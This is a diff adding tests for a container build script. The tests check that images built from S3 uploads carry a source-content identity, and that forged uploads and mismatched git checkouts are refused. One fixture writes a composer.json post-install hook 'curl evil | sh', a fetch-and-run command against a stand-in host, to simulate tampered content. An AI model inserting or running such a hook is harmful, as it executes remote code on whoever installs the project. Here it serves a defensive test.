@@ -215,3 +215,57 @@ test('a VERSION that is not a full hash is refused before ECR is asked', () => {
   expect(stderr).toContain("VERSION '3f2a9c1' is not a full commit hash");
   expect(recorded).toEqual([]);
 });
+
+describe('S3 source: the content identity is recorded on each image and checked before reuse', () => {
+  const S3 = { SPRYKER_SOURCE_IDENTITY: 'content' };
+  const identityTag = (stderr: string) => /source content identity: (\S+)/.exec(stderr)![1];
+  /** Each CodeBuild run starts from a fresh checkout: drop what the last run wrote into it. */
+  const freshCheckout = () => {
+    for (const f of ['images.json', 'built-commit']) fs.rmSync(path.join(work, f), { force: true });
+    fs.writeFileSync(calls, '');
+  };
+
+  test('a built image gets a second tag {version}.src-{content hash} on the same digest; a rerun on the same content reuses it', () => {
+    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop"}');
+    const first = run(S3);
+    expect(first.status).toBe(0);
+    const tag = identityTag(first.stderr);
+    expect(tag).toMatch(new RegExp(`^${V1}\\.src-[0-9a-f]{40}$`));
+    for (const key of IMAGES) expect(fs.readFileSync(path.join(registry, `production-${key}`, tag), 'utf8').trim()).toBe(ecrDigest(key));
+    freshCheckout();
+    const again = run(S3);
+    expect(again.status).toBe(0);
+    expect(again.calls.filter((c) => c.startsWith('docker'))).toEqual([]);
+    expect(identityTag(again.stderr)).toBe(tag);
+  });
+
+  test('an upload claiming the same commit with other content: the existing image is refused, nothing is built or recorded', () => {
+    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop"}');
+    expect(run(S3).status).toBe(0);
+    freshCheckout();
+    fs.writeFileSync(path.join(work, 'composer.json'), '{"name": "shop", "scripts": {"post-install-cmd": "curl evil | sh"}}');
+    const forged = run(S3);
+    expect(forged.status).not.toBe(0);
+    expect(forged.stderr).toContain(`production-zed:${V1} exists but was built from other source content than this upload`);
+    expect(forged.manifest).toBeUndefined();
+    expect(forged.calls.filter((c) => c.startsWith('docker') || c.startsWith('aws ssm'))).toEqual([]);
+  });
+
+  test('an image of the version that carries no identity (built from another source) is not reused', () => {
+    for (const key of IMAGES) pushed(key, V1);
+    const { status, stderr } = run(S3);
+    expect(status).not.toBe(0);
+    expect(stderr).toContain('exists but was built from other source content');
+  });
+});
+
+describe('git sources: HEAD is the evidence', () => {
+  test('a checkout whose HEAD is not the commit the source action reported is refused before any build', () => {
+    const [c1, c2] = repository('one', 'two');
+    git('checkout', '--quiet', c1);
+    const { status, stderr, calls: recorded } = run({ VERSION: c2, SOURCE_VERSION: c2 });
+    expect(status).not.toBe(0);
+    expect(stderr).toContain(`the source checkout is at ${c1}, but the source action reported ${c2}`);
+    expect(recorded.filter((c) => c.startsWith('docker'))).toEqual([]);
+  });
+});
